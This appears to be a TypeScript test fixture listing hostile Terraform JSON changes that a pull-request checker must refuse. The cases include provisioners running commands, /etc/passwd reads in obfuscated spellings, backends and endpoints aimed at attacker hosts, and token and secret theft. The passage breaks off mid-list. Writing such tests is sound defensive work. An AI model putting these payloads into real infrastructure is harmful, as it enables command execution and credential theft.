import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { entry, type Json, ref, type Tree } from './tree';

/** Change of a valid artifact that must be refused. */
export interface HostileCase {
  readonly name: string;

  /** Consequence of a plan of the artifact. */
  readonly danger: string;

  /** Part of a refusal that names the place; the file is enough for what is no value. */
  readonly place: string | RegExp;

  /** Changes the artifact of the pull request, and that of the base branch where the case needs another one. */
  readonly change: (head: Tree, base: Tree) => void;
}

type Row = readonly [name: string, place: string | RegExp, change: (head: Tree, base: Tree) => void];

const group = (danger: string, rows: readonly Row[]): HostileCase[] =>
  rows.map(([name, place, change]) => ({ name, danger, place, change }));

const PASSWD = '/etc/passwd';
const FILE = `file("${PASSWD}")`;
const LISTENER = 'http://127.0.0.1:9/';
const EXEC = { api_version: 'client.authentication.k8s.io/v1beta1', command: 'sh', args: ['-c', 'id'] };
const REMOTE_STATE = { terraform_remote_state: { Steal: { backend: 'http', config: { address: LISTENER } } } };
const EXTERNAL = { external: { Run: { program: ['id'] } } };
const LOCAL_EXEC = { 'local-exec': { command: 'id' } };

const text = (value: unknown): string => JSON.stringify(value);

/** Sets the description of the firewall rule, a text that Terraform evaluates. */
const describeRule = (value: unknown) => (head: Tree) => {
  head.body('google_compute_firewall').description = value;
};

const inCluster = (change: (cluster: Json) => void) => (head: Tree) => change(head.body('google_container_cluster'));

const inRelease = (values: Record<string, unknown>) => (head: Tree) => {
  head.add('helm_release', 'Evil', { name: 'evil', namespace: 'billing', provider: 'helm', ...values });
};

const addTopLevel = (name: string, value: unknown) => (head: Tree) => {
  head.json[name] = value;
};

const addResource = (type: string, body: unknown) => (head: Tree) => head.add(type, 'Evil', body);

const addFile =
  (file: string, content: string | Buffer = '') =>
  (head: Tree) => {
    head.files.set(file, content);
  };

/** Lists of lists and repeated members: Terraform merges them, `JSON.parse` keeps one, and a walk by objects sees none. */
const hiddenBlocks = group('Terraform reads blocks that other JSON parsers do not show', [
  ...Object.entries<[unknown, string]>({
    data: [EXTERNAL, 'data'],
    resource: [{ terraform_data: { Evil: { provisioner: [LOCAL_EXEC] } } }, 'resource'],
    provider: [{ http: { alias: 'evil' } }, 'provider'],
    terraform: [{ backend: { http: { address: LISTENER } } }, 'terraform'],
    module: [{ Evil: { source: LISTENER } }, 'module'],
    locals: [{ evil: ref(FILE) }, 'locals'],
    output: [{ evil: { value: ref(FILE) } }, 'output'],
    variable: [{ evil: { default: ref(FILE) } }, 'variable'],
    check: [{ evil: { data: { http: { a: { url: LISTENER } } } } }, 'check'],
    ephemeral: [{ google_service_account_access_token: { Evil: {} } }, 'ephemeral'],
    import: [{ id: 'x', to: 'google_secret_manager_secret_version.Evil' }, 'import'],
    moved: [{ from: ref(FILE), to: 'google_compute_disk.New' }, 'moved'],
    removed: [{ from: 'google_compute_disk.Old', provisioner: LOCAL_EXEC }, 'removed'],
  }).flatMap(([kind, [hidden, place]]): Row[] => [
    [`${kind} in a list`, place, (head) => head.member(`${text(kind)}:[${text(hidden)}]`)],
    [`${kind} in a list in a list`, place, (head) => head.member(`${text(kind)}:[[${text(hidden)}]]`)],
    [`${kind} twice`, place, (head) => head.member(`${text(kind)}:${text(hidden)},${text(kind)}:{}`)],
    [
      `${kind} in a list after the known blocks`,
      place,
      (head) => {
        const known = head.json[kind];
        head.json[kind] = [...(known === undefined ? [] : [known]), hidden];
      },
    ],
    [
      `${kind} in a list in a list after the known blocks`,
      place,
      (head) => {
        const known = head.json[kind];
        head.json[kind] = [...(known === undefined ? [] : [known]), [hidden]];
      },
    ],
  ]),
  ['a member name written with an escape', 'data', (head) => head.member(`"d\\u0061ta":${text(EXTERNAL)},"data":{}`)],
  ['types of resources in a list in a list', 'resource', (head) => head.add('terraform_data', 'Evil', [[{ provisioner: [LOCAL_EXEC] }]])],
  [
    'names of resources in a list in a list',
    'resource',
    (head) => {
      head.json.resource.terraform_data = [[{ Evil: { provisioner: [LOCAL_EXEC] } }]];
    },
  ],
  [
    'a resource in two lists',
    'resource',
    (head) => {
      const disk = head.nameOf('google_compute_disk');
      head.json.resource = [head.json.resource, { google_compute_disk: { [disk]: { name: 'other', project: 'evil' } } }];
    },
  ],
  [
    'a second body of a resource',
    'resource',
    (head) =>
      head.add('google_compute_network', head.nameOf('google_compute_network'), [
        head.body('google_compute_network'),
        { provisioner: LOCAL_EXEC },
      ]),
  ],
  [
    'a provider configuration in a list in a list',
    'provider',
    (head) => {
      head.json.provider.kubernetes = [[head.json.provider.kubernetes[0], { exec: [EXEC] }]];
    },
  ],
  [
    'an alias of a provider with a program',
    'provider',
    (head) => {
      head.json.provider.kubernetes = [...head.json.provider.kubernetes, { alias: 'evil', host: LISTENER, exec: [EXEC] }];
    },
  ],
  [
    'an alias of a provider in a list in a list',
    'provider',
    (head) => {
      head.json.provider.kubernetes = [...head.json.provider.kubernetes, [{ alias: 'evil', host: LISTENER, exec: [EXEC] }]];
    },
  ],
  ['a second program of a provider', 'exec', (head) => head.text((json) => json.replace('"exec":', `"exec":${text(EXEC)},"exec":`))],
  ['a second host of a provider', 'host', (head) => head.text((json) => json.replace('"host":', `"host":"${LISTENER}","host":`))],
  [
    'a nested block in a list in a list',
    'control_plane_endpoints_config',
    inCluster((cluster) => {
      cluster.control_plane_endpoints_config = [[{ dns_endpoint_config: { endpoint: 'evil.example' } }]];
    }),
  ],
  [
    'a dynamic block in a list in a list',
    /dynamic|provisioner/,
    addResource('terraform_data', { dynamic: [[{ provisioner: { for_each: [1], labels: ['local-exec'], content: { command: 'id' } } }]] }),
  ],
  ['a name twice, once with its prototype', '__proto__', (head) => head.member(`"__proto__":{"data":${text(EXTERNAL)}}`)],
]);

/** Blocks that read, run or reach something by themselves. */
const forbiddenBlocks = group('the block runs a program, reads a secret, or connects to a host of the author', [
  ['another backend', 'terraform', (head) => (head.json.terraform.backend = { http: { address: LISTENER } })],
  ['a second backend', 'terraform', (head) => (head.json.terraform.backend.http = { address: LISTENER })],
  ['a backend in the file system', 'terraform', (head) => (head.json.terraform.backend = { local: { path: '/tmp/state' } })],
  ['another folder in the backend', 'terraform', (head) => (head.json.terraform.backend.gcs.prefix = 'production')],
  ['credentials of the backend', 'terraform', (head) => (head.json.terraform.backend.gcs.credentials = PASSWD)],
  ['an endpoint of the backend', 'terraform', (head) => (head.json.terraform.backend.gcs.storage_custom_endpoint = LISTENER)],
  ['no backend', 'terraform', (head) => delete head.json.terraform.backend],
  [
    'a cloud block',
    'terraform',
    (head) => (head.json.terraform.cloud = { organization: 'evil', hostname: 'evil.example', workspaces: { name: 'a' } }),
  ],
  [
    'a cloud block in a list',
    'terraform',
    (head) => (head.json.terraform = [head.json.terraform, { cloud: { hostname: 'evil.example' } }]),
  ],
  ['another provider', 'terraform', (head) => (head.json.terraform.required_providers.evil = { source: 'evil.example/a/evil' })],
  ['another source of a provider', 'terraform', (head) => (head.json.terraform.required_providers.google.source = 'evil.example/a/google')],
  ['another version of a provider', 'terraform', (head) => (head.json.terraform.required_providers.google.version = '>= 0')],
  [
    'settings of a provider in the terraform block',
    'terraform',
    (head) => (head.json.terraform.provider_meta = { google: { module_name: 'evil' } }),
  ],
  ['experiments', 'terraform', (head) => (head.json.terraform.experiments = ['module_variable_optional_attrs'])],
  ['no terraform block', 'terraform', (head) => delete head.json.terraform],
  ['another host of a provider', 'provider', (head) => (head.json.provider.kubernetes[0].host = LISTENER)],
  ['another program of a provider', 'provider', (head) => (head.json.provider.kubernetes[0].exec = [EXEC])],
  ['credentials of a provider', 'provider', (head) => (head.json.provider.google[0].credentials = ref(FILE))],
  ['a custom endpoint of a provider', 'provider', (head) => (head.json.provider.google[0].compute_custom_endpoint = LISTENER)],
  [
    'impersonation by a provider',
    'provider',
    (head) => (head.json.provider.google[0].impersonate_service_account = 'root@evil.iam.gserviceaccount.com'),
  ],
  ['no configuration of a provider', 'provider', (head) => delete head.json.provider.kubernetes],
  ['a provider of another name', 'provider', (head) => (head.json.provider.http = [{}])],
  ['a block type in capitals', 'Provider', addTopLevel('Provider', { http: {} })],
  ['a block type with a space', 'data', addTopLevel('data ', EXTERNAL)],
  ['an unknown block type', 'action', addTopLevel('action', { local_command: { a: {} } })],
  ['a block type of the prototype', 'constructor', addTopLevel('constructor', { a: {} })],
  ['a block type with an invisible character', 'data', addTopLevel('data\u200b', EXTERNAL)],
  ['the state of another stack', 'terraform_remote_state', addTopLevel('data', REMOTE_STATE)],
  ['an external program', 'external', addTopLevel('data', EXTERNAL)],
  ['a request', 'http', addTopLevel('data', { http: { Call: { url: LISTENER } } })],
  ['a local file', 'local_file', addTopLevel('data', { local_file: { Read: { filename: PASSWD } } })],
  ['the token of the job', 'google_client_config', addTopLevel('data', { google_client_config: { Me: {} } })],
  [
    'the token of another account',
    'google_service_account_access_token',
    addTopLevel('data', { google_service_account_access_token: { Root: { target_service_account: 'root', scopes: [] } } }),
  ],
  [
    'an identity token',
    'google_service_account_id_token',
    addTopLevel('data', { google_service_account_id_token: { Me: { target_audience: LISTENER } } }),
  ],
  [
    'a secret of Secret Manager',
    'google_secret_manager_secret_version',
    addTopLevel('data', { google_secret_manager_secret_version: { Password: { secret: 'cassandra' } } }),
  ],
  [
    'a secret of Secret Manager by another type',
    'google_secret_manager_secret_version_access',
    addTopLevel('data', { google_secret_manager_secret_version_access: { P: { secret: 'a' } } }),
  ],
  [
    'an object of Cloud Storage',
    'google_storage_bucket_object_content',
    addTopLevel('data', { google_storage_bucket_object_content: { State: { bucket: 'states', name: 'default.tfstate' } } }),
  ],
  [
    'a signed URL',
    'google_storage_object_signed_url',
    addTopLevel('data', { google_storage_object_signed_url: { State: { bucket: 'states', path: 'a' } } }),
  ],
  ['a secret of the cluster', 'kubernetes_secret', addTopLevel('data', { kubernetes_secret_v1: { Token: { metadata: { name: 'a' } } } })],
  [
    'any object of the cluster',
    'kubernetes_resource',
    addTopLevel('data', { kubernetes_resource: { Token: { api_version: 'v1', kind: 'Secret', metadata: { name: 'a' } } } }),
  ],
  ['a chart that is rendered', 'helm_template', addTopLevel('data', { helm_template: { Evil: { name: 'a', chart: LISTENER } } })],
  [
    'data of another provider configuration',
    'google_compute_zones',
    addTopLevel('data', { google_compute_zones: { All: { provider: 'kubernetes.evil' } } }),
  ],
  ['data with a program of its own', 'provisioner', addTopLevel('data', { google_compute_zones: { All: { provisioner: LOCAL_EXEC } } })],
  ['a module of the network', 'module', addTopLevel('module', { Evil: { source: `git::${LISTENER}` } })],
  ['a module of the assets', 'module', addTopLevel('module', { Evil: { source: './assets/search/1' } })],
  [
    'a check with a data source',
    'check',
    addTopLevel('check', { Evil: { data: { http: { Call: { url: LISTENER } } }, assert: { condition: true, error_message: 'x' } } }),
  ],
  [
    'an ephemeral token',
    'ephemeral',
    addTopLevel('ephemeral', { google_service_account_access_token: { Evil: { target_service_account: 'a', scopes: [] } } }),
  ],
  ['a provisioner', 'provisioner', addResource('terraform_data', { provisioner: LOCAL_EXEC })],
  ['a provisioner in a list', 'provisioner', addResource('terraform_data', { provisioner: [LOCAL_EXEC] })],
  [
    'a provisioner with a list of bodies',
    'provisioner',
    addResource('terraform_data', { provisioner: { 'local-exec': [{ command: 'id' }] } }),
  ],
  [
    'a provisioner at destruction',
    'provisioner',
    addResource('terraform_data', { provisioner: [{ 'local-exec': { when: 'destroy', command: 'id' } }] }),
  ],
  [
    'a provisioner of files',
    'provisioner',
    addResource('terraform_data', { provisioner: [{ file: { source: PASSWD, destination: '/tmp/a' } }] }),
  ],
  [
    'a generated provisioner',
    /dynamic|provisioner/,
    addResource('terraform_data', { dynamic: { provisioner: { for_each: [1], content: { command: 'id' } } } }),
  ],
  ['a connection', 'connection', addResource('terraform_data', { connection: { host: 'evil.example', user: 'root' } })],
  ['a connection in a list', 'connection', addResource('terraform_data', { connection: [{ host: 'evil.example' }] })],
  ['a connection of the cluster', 'connection', inCluster((cluster) => (cluster.connection = { host: 'evil.example' }))],
  [
    'a provisioner of what is removed',
    'provisioner',
    addTopLevel('removed', [
      {
        from: 'google_compute_disk.Old',
        lifecycle: { destroy: true },
        provisioner: [{ 'local-exec': { when: 'destroy', command: 'id' } }],
      },
    ]),
  ],
]);

/** Spellings of a call of a function that reads files. */
const CALLS: Readonly<Record<string, string>> = {
  plainly: ref(FILE),
  'with a space': ref(`file ("${PASSWD}")`),
  'with a tab': ref(`file\t("${PASSWD}")`),
  'with a newline': ref(`file\n("${PASSWD}")`),
  'with a carriage return': ref(`file\r\n("${PASSWD}")`),
  'with a comment': ref(`file/**/("${PASSWD}")`),
  'with a comment that ends an expression': ref(`file/*}*/("${PASSWD}")`),
  'with a comment of a line': ref(`file #x\n("${PASSWD}")`),
  'with a comment of a line by slashes': ref(`file //x\n("${PASSWD}")`),
  'after a comment that closes': ref(`/* } */ ${FILE}`),
  'after a comment of a line that closes': ref(`1 + # }\n ${FILE}`),
  'in capitals': ref(`File("${PASSWD}")`),
  'in its namespace': ref(`core::${FILE}`),
  'in its namespace, with a comment': ref(`core:: /**/ file("${PASSWD}")`),
  'of a provider': ref('provider::google::name_from_id("a")'),
  'of a provider, with spaces': ref('provider ::google:: name_from_id ("a")'),
  'in another function': ref(`upper(${FILE})`),
  'in a text in an expression': ref(`"a\${${FILE}}"`),
  'in a text in a text': ref(`"a\${"b\${${FILE}}"}"`),
  'after a quote in a text': ref(`"\\"\${${FILE}}"`),
  'after an escape in a text': `${ref(`"$${'$'}{"`)}${ref(FILE)}`,
  'after a brace in a text': ref(`"}" == "" ? "" : ${FILE}`),
  'in parentheses': ref(`(${FILE})`),
  'in a list': ref(`join("", [${FILE}])`),
  'in an object': ref(`{a = ${FILE}}.a`),
  'in a key of an object': ref(`{(${FILE}) = 1}`),
  'in an index': ref(`[1][fileexists("${PASSWD}") ? 0 : 1]`),
  'behind a splat': ref(`[${FILE}][*]`),
  'in a for expression': ref(`join("", [for x in ["${PASSWD}"] : file(x)])`),
  'in the list of a for expression': ref(`join("", [for x in fileset("/etc", "*") : x])`),
  'in the condition of a for expression': ref(`join("", [for x in ["a"] : x if fileexists("${PASSWD}")])`),
  'in the key of a for expression': ref(`{for x in ["a"] : ${FILE} => x}`),
  'in a conditional': ref(`true ? ${FILE} : ""`),
  'in the condition of a conditional': ref(`fileexists("${PASSWD}") ? "a" : "b"`),
  'behind an operator': ref(`!fileexists("${PASSWD}")`),
  'in a heredoc': ref(`<<E\n\${${FILE}}\nE\n`),
  'in an indented heredoc': ref(`<<-E\n  \${${FILE}}\n  E\n`),
  'in a directive': `%{ if fileexists("${PASSWD}") }1%{ endif }`,
  'in a directive without spaces': `%{if fileexists("${PASSWD}")}1%{endif}`,
  'in a directive that loops': `%{ for x in fileset("/etc", "*") }${ref('x')}%{ endfor }`,
  'in a directive that strips spaces': `a %{~ if fileexists("${PASSWD}") ~} 1 %{~ endif ~}`,
  'in the body of a directive': `%{ if true }${ref(FILE)}%{ endif }`,
  'with stripped spaces': `a \${~ ${FILE} ~} b`,
  'after an escaped expression': `$\${a}${ref(FILE)}`,
  'in an escaped expression': `$\${${ref(FILE)}}`,
  'after an escaped directive': `%%{a}${ref(FILE)}`,
  'after a dollar and a percent sign': `$%${ref(FILE)}`,
  'after two percent signs': `%%${ref(FILE)}`,
  'in a directive after two dollars': `$$%{ if fileexists("${PASSWD}") }1%{ endif }`,
  'after an unclosed brace': `{${ref(FILE)}`,
  'that is not closed': `\${${FILE}`,
  reversed: ref(`strrev(${FILE})`),
  encoded: ref(`base64encode(${FILE})`),
  'with expanded arguments': ref(`file(["${PASSWD}"]...)`),
};

/** Functions that read the machine, hide what is secret, or differ in each run. */
const FUNCTIONS: Readonly<Record<string, string>> = {
  filebase64: `filebase64("${PASSWD}")`,
  fileexists: `fileexists("${PASSWD}")`,
  fileset: 'fileset("/etc", "*")',
  filemd5: `filemd5("${PASSWD}")`,
  filesha1: `filesha1("${PASSWD}")`,
  filesha256: `filesha256("${PASSWD}")`,
  filesha512: `filesha512("${PASSWD}")`,
  filebase64sha256: `filebase64sha256("${PASSWD}")`,
  filebase64sha512: `filebase64sha512("${PASSWD}")`,
  templatefile: `templatefile("${PASSWD}", {})`,
  templatestring: 'templatestring(google_compute_network.Network.name, {})',
  pathexpand: 'pathexpand("~")',
  abspath: 'abspath(".")',
  nonsensitive: 'nonsensitive("a")',
  strrev: 'strrev("a")',
  ephemeralasnull: 'ephemeralasnull("a")',
  'a function that does not exist': 'evil("a")',
};

const functions = group('the plan contains a file of the job with credentials, or a secret that the report does not recognize', [
  ...Object.entries(CALLS).map(([spelling, value]): Row => [`a function ${spelling}`, 'description', describeRule(value)]),
  ...Object.entries(FUNCTIONS).map(([name, call]): Row => [`the function ${name}`, 'description', describeRule(ref(call))]),
  ['a function in the key of a map', 'resource_labels', inCluster((cluster) => (cluster.resource_labels = { [ref(FILE)]: 'a' }))],
  [
    'a function in the key of a map, with a comment',
    'resource_labels',
    inCluster((cluster) => (cluster.resource_labels = { [ref(`file/**/("${PASSWD}")`)]: 'a' })),
  ],
  [
    'a function in a map under the name of a comment',
    'resource_labels',
    inCluster((cluster) => (cluster.resource_labels = { '//': ref(FILE) })),
  ],
  ['a function in a value under the name of a comment', 'terraform_data', addResource('terraform_data', { input: { '//': ref(FILE) } })],
  ['a function in a local value under the name of a comment', 'locals', addTopLevel('locals', { a: { '//': ref(FILE) } })],
  ['a function in an output under the name of a comment', 'output', (head) => (head.json.output.Evil = { value: { '//': ref(FILE) } })],
  [
    'a function in a list of texts',
    'source_ranges',
    (head) => (head.body('google_compute_firewall').source_ranges = ['10.0.0.0/8', ref(FILE)]),
  ],
  ['a function in a block', 'node_config', (head) => (head.body('google_container_node_pool').node_config.image_type = ref(FILE))],
  ['a function in a list of lists', 'terraform_data', addResource('terraform_data', { input: [[[{ a: ref(FILE) }]]] })],
  ['a function in count', 'count', addResource('terraform_data', { count: ref(`length(${FILE})`) })],
  ['a function in for_each', 'for_each', addResource('terraform_data', { for_each: ref('fileset("/etc", "*")') })],
  ['a function in depends_on', 'depends_on', addResource('terraform_data', { depends_on: [ref(FILE)] })],
  ['a function in triggers', 'triggers_replace', addResource('terraform_data', { triggers_replace: [ref(FILE)] })],
  ['a function in replace_triggered_by', 'lifecycle', addResource('terraform_data', { lifecycle: { replace_triggered_by: [ref(FILE)] } })],
  [
    'a function in a precondition',
    'precondition',
    addResource('terraform_data', { lifecycle: { precondition: [{ condition: ref(`fileexists("${PASSWD}")`), error_message: 'a' }] } }),
  ],
  [
    'a function in the message of a precondition',
    'precondition',
    addResource('terraform_data', { lifecycle: { precondition: { condition: ref('1 == 2'), error_message: ref(FILE) } } }),
  ],
  [
    'a function in a postcondition',
    'postcondition',
    addResource('terraform_data', { lifecycle: [{ postcondition: [{ condition: ref(`fileexists("${PASSWD}")`), error_message: 'a' }] }] }),
  ],
  [
    'a function in a generated block',
    'dynamic',
    (head) =>
      (head.body('google_compute_firewall').dynamic = {
        allow: { for_each: ref('fileset("/etc", "*")'), content: { protocol: ref('allow.value') } },
      }),
  ],
  [
    'a function in the content of a generated block',
    'dynamic',
    (head) => (head.body('google_compute_firewall').dynamic = { allow: { for_each: ['tcp'], content: { protocol: ref(FILE) } } }),
  ],
  ['a function in an output', 'output', (head) => (head.json.output.Evil = { value: ref(FILE) })],
  ['a function in the description of an output', 'output', (head) => (head.json.output.Evil = { value: 'a', description: ref(FILE) })],
  [
    'a function in the precondition of an output',
    'output',
    (head) => (head.json.output.Evil = { value: 'a', precondition: [{ condition: ref(`fileexists("${PASSWD}")`), error_message: 'a' }] }),
  ],
  ['a function in a local value', 'locals', addTopLevel('locals', { evil: ref(FILE) })],
  ['a function in the default of a variable', 'variable', addTopLevel('variable', { evil: { default: ref(FILE) } })],
  [
    'a function in the validation of a variable',
    'variable',
    addTopLevel('variable', { evil: { default: 'a', validation: [{ condition: ref(`fileexists("${PASSWD}")`), error_message: 'a' }] } }),
  ],
  ['a function in an import', 'import', addTopLevel('import', [{ id: ref(FILE), to: 'google_compute_disk.Disk' }])],
  [
    'a function in the loop of an import',
    'import',
    addTopLevel('import', [{ for_each: ref('fileset("/etc", "*")'), id: 'a', to: 'google_compute_disk.Disk' }]),
  ],
  ['a function in moved', 'moved', addTopLevel('moved', [{ from: ref(FILE), to: 'google_compute_disk.Disk' }])],
  ['a function in a chart value', 'values', inRelease({ chart: 'redis', repository: 'https://charts.example.com', values: [ref(FILE)] })],
  [
    'a function in a startup script',
    'metadata',
    (head) => (head.body('google_container_node_pool').node_config.metadata = { 'startup-script': `#!/bin/sh\n${ref(FILE)}` }),
  ],
]);

const roots = group('the expression reads what belongs to the machine or to another module', [
  ['the folder of the job', 'description', describeRule(ref('path.cwd'))],
  ['the folder of the job by an index', 'description', describeRule(ref('path["cwd"]'))],
  [
    'a variable that the environment sets',
    'variable',
    (head) => {
      head.json.variable = { token: { type: 'string' } };
      describeRule(ref('var.token'))(head);
    },
  ],
  ['a variable of the job', 'variable', addTopLevel('variable', { token: {} })],
  ['a module', 'description', describeRule(ref('module.evil.token'))],
  ['an ephemeral value', 'description', describeRule(ref('ephemeral.google_service_account_access_token.Me.access_token'))],
  ['the resource itself', 'description', describeRule(ref('self.id'))],
  ['a comment in an expression', 'description', describeRule(ref('google_compute_network.Network.name /* } */'))],
  ['an expression that is not closed', 'description', describeRule(`${'$'}{google_compute_network.Network.name`)],
  ['an expression without content', 'description', describeRule(ref(''))],
  ['a directive without end', 'description', describeRule('%{ if true }a')],
]);

/** `import`, `moved` and `removed`. */
const SECRET = 'google_secret_manager_secret_version.Evil';
export const STATE_CASES = group('the plan shows a secret, or changes what the providers refer to', [
  ...Object.entries<unknown>({
    'a secret': SECRET,
    'a secret after a space': ` ${SECRET}`,
    'a secret after a newline': `\n${SECRET}`,
    'a secret by index': `${SECRET}[0]`,
    'a secret by key': `${SECRET}["a"]`,
    'a secret by brackets': 'google_secret_manager_secret_version["Evil"]',
    'a secret with spaces around the dot': 'google_secret_manager_secret_version . Evil',
    'a secret with a comment': 'google_secret_manager_secret_version/**/.Evil',
    'a secret by an expression': ref(SECRET),
    'a secret in a module': `module.evil.${SECRET}`,
    'a secret in a list': [SECRET],
    'a key': 'google_service_account_key.Evil',
    'a secret of the cluster': 'kubernetes_secret_v1.Evil',
    'a generated password': 'random_password.Evil',
  }).map(
    ([name, to]): Row => [
      `the import of ${name}`,
      'import',
      (head) => {
        for (const type of ['google_secret_manager_secret_version', 'google_service_account_key', 'kubernetes_secret_v1'])
          head.add(type, 'Evil', {});
        head.json.import = [{ id: 'projects/1/secrets/a/versions/1', to }];
      },
    ],
  ),
  ['an import that is not a list', 'import', addTopLevel('import', { id: 'a', to: SECRET })],
  ['imports in a list in a list', 'import', addTopLevel('import', [[{ id: 'a', to: SECRET }]])],
  [
    'the import of a disk of another project',
    'import',
    (head) => (head.json.import = [{ id: 'projects/evil/zones/europe-west1-b/disks/data', to: head.address('google_compute_disk') }]),
  ],
  [
    'an import that names a second project behind the first',
    'import',
    (head) => {
      head.json.import = [
        {
          id: 'parking-staging/projects/evil/locations/europe-west1/clusters/main/nodePools/apps',
          to: head.address('google_container_node_pool'),
        },
      ];
    },
  ],
  [
    'an import with another provider configuration',
    'import',
    (head) => (head.json.import = [{ id: 'a', provider: 'kubernetes.evil', to: head.address('google_compute_disk') }]),
  ],
  [
    'an import with an expression',
    'import',
    (head) => (head.json.import = [{ id: ref('data.google_client_config.Me.access_token'), to: head.address('google_compute_disk') }]),
  ],
  [
    'an import with an unknown member',
    'import',
    (head) => (head.json.import = [{ id: 'a', to: head.address('google_compute_disk'), evil: 'x' }]),
  ],
  [
    'the import of the cluster',
    'import',
    (head) =>
      (head.json.import = [
        { id: 'projects/parking-staging/locations/europe-west1/clusters/other', to: head.address('google_container_cluster') },
      ]),
  ],
  [
    'the import of the cluster by an index',
    'import',
    (head) => (head.json.import = [{ id: 'x', to: `${head.address('google_container_cluster')}[0]` }]),
  ],
  [
    'the cluster is moved here',
    'moved',
    (head) => (head.json.moved = [{ from: 'google_container_cluster.Evil', to: head.address('google_container_cluster') }]),
  ],
  [
    'the cluster is moved away',
    'moved',
    (head) => (head.json.moved = [{ from: head.address('google_container_cluster'), to: 'google_container_cluster.Evil' }]),
  ],
  [
    'the cluster is moved here after a space',
    'moved',
    (head) => (head.json.moved = [{ from: 'google_container_cluster.Evil', to: ` ${head.address('google_container_cluster')}` }]),
  ],
  [
    'the cluster is moved here by key',
    'moved',
    (head) => (head.json.moved = [{ from: 'google_container_cluster.Evil["a"]', to: head.address('google_container_cluster') }]),
  ],
  [
    'moves in a list in a list',
    'moved',
    (head) => (head.json.moved = [[{ from: 'google_container_cluster.Evil', to: head.address('google_container_cluster') }]]),
  ],
  [
    'the cluster is removed',
    'removed',
    (head) => (head.json.removed = [{ from: head.address('google_container_cluster'), lifecycle: { destroy: false } }]),
  ],
  [
    'the cluster is removed after a newline',
    'removed',
    (head) => (head.json.removed = [{ from: `\n${head.address('google_container_cluster')}`, lifecycle: { destroy: false } }]),
  ],
]);

/** The provider blocks of the base branch refer to the endpoint of the cluster. */
const ENDPOINT = 'evil.example';
export const CLUSTER_CASES = group('the token of the job is sent to a host of the author, because a provider block refers to the cluster', [
  [
    'the endpoint of the cluster',
    'endpoint',
    inCluster((body) => (body.control_plane_endpoints_config.dns_endpoint_config.endpoint = ENDPOINT)),
  ],
  [
    'the endpoint in lists',
    'endpoint',
    inCluster((body) => (body.control_plane_endpoints_config = [{ dns_endpoint_config: [{ endpoint: ENDPOINT }] }])),
  ],
  [
    'the endpoint as an expression',
    'endpoint',
    inCluster((body) => (body.control_plane_endpoints_config.dns_endpoint_config.endpoint = ref('local.host'))),
  ],
  [
    'the endpoint by local values',
    /endpoint|locals/,
    (head) => {
      head.json.locals = { host: ENDPOINT };
      head.body('google_container_cluster').control_plane_endpoints_config.dns_endpoint_config.endpoint = ref('local.host');
    },
  ],
  [
    'the endpoint in a generated block',
    /control_plane_endpoints_config/,
    inCluster((body) => {
      delete body.control_plane_endpoints_config;
      body.dynamic = { control_plane_endpoints_config: { for_each: [1], content: { dns_endpoint_config: { endpoint: ENDPOINT } } } };
    }),
  ],
  [
    'the endpoint in a generated block in a block',
    /dns_endpoint_config|endpoint/,
    inCluster((body) => {
      body.control_plane_endpoints_config = { dynamic: [{ dns_endpoint_config: [{ for_each: [1], content: [{ endpoint: ENDPOINT }] }] }] };
    }),
  ],
  [
    'the endpoint in a block that is an expression',
    'control_plane_endpoints_config',
    inCluster((body) => (body.control_plane_endpoints_config = ref(`[{ dns_endpoint_config = [{ endpoint = "${ENDPOINT}" }] }]`))),
  ],
  [
    'two blocks on the path to the endpoint',
    'control_plane_endpoints_config',
    inCluster(
      (body) =>
        (body.control_plane_endpoints_config = [{ dns_endpoint_config: { endpoint: ENDPOINT } }, body.control_plane_endpoints_config]),
    ),
  ],
  [
    'a change of the endpoint that is ignored',
    'lifecycle',
    inCluster((body) => (body.lifecycle = { ...body.lifecycle, ignore_changes: ['control_plane_endpoints_config'] })),
  ],
  [
    'all changes of the cluster are ignored',
    'lifecycle',
    inCluster((body) => (body.lifecycle = { ...body.lifecycle, ignore_changes: 'all' })),
  ],
  ['no lifecycle of the cluster', 'lifecycle', inCluster((body) => delete body.lifecycle)],
  [
    'a second lifecycle of the cluster',
    'lifecycle',
    inCluster((body) => (body.lifecycle = [body.lifecycle, { ignore_changes: ['control_plane_endpoints_config'] }])),
  ],
  [
    'a replacement of the cluster by another change',
    'lifecycle',
    inCluster((body) => (body.lifecycle = { ...body.lifecycle, replace_triggered_by: ['terraform_data.Note'] })),
  ],
  ['another name of the cluster', 'name', inCluster((body) => (body.name = 'evil'))],
  ['the name of the cluster as an expression', 'name', inCluster((body) => (body.name = ref('"evil"')))],
  ['another location of the cluster', 'location', inCluster((body) => (body.location = 'us-central1'))],
  ['another project of the cluster', 'project', inCluster((body) => (body.project = 'evil'))],
  ['no project of the cluster', 'project', inCluster((body) => delete body.project)],
  ['another provider of the cluster', 'provider', inCluster((body) => (body.provider = 'kubernetes'))],
  ['an alias of the provider of the cluster', 'provider', inCluster((body) => (body.provider = 'google.evil'))],
  ['a count of the cluster', 'count', inCluster((body) => (body.count = 1))],
  ['a loop over the cluster', 'for_each', inCluster((body) => (body.for_each = { a: 'b' }))],
  ['no cluster', 'google_container_cluster', (head) => delete head.json.resource.google_container_cluster],
  [
    'the cluster under another name',
    'google_container_cluster',
    (head) => (head.json.resource.google_container_cluster = { Other: head.body('google_container_cluster') }),
  ],
  [
    'the cluster twice',
    'google_container_cluster',
    (head) => head.add('google_container_cluster', head.nameOf('google_container_cluster'), [head.body('google_container_cluster'), {}]),
  ],
]);

const HOST = 'https://10.0.0.2';
const providerInputs = group('a provider block refers to a value that the pull request sets', [
  [
    'a local value that a provider refers to',
    'local.',
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.locals = { host: HOST };
        tree.json.provider.kubernetes[0].host = ref('local.host');
      }
      head.json.locals.host = LISTENER;
    },
  ],
  [
    'a local value behind another one that a provider refers to',
    'local.',
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.locals = { address: HOST, host: ref('local.address') };
        tree.json.provider.kubernetes[0].host = ref('local.host');
      }
      head.json.locals.address = LISTENER;
    },
  ],
  [
    'a key of a local value that a provider refers to',
    'local.',
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.locals = { hosts: { a: HOST } };
        tree.json.provider.kubernetes[0].host = ref('local.hosts["a"]');
      }
      head.json.locals.hosts.a = LISTENER;
    },
  ],
  [
    'data that a provider refers to',
    'data',
    (head, base) => {
      for (const tree of [head, base]) {
        tree.json.data = { google_container_cluster: { Main: { name: 'main', location: 'europe-west1', project: 'parking-staging' } } };
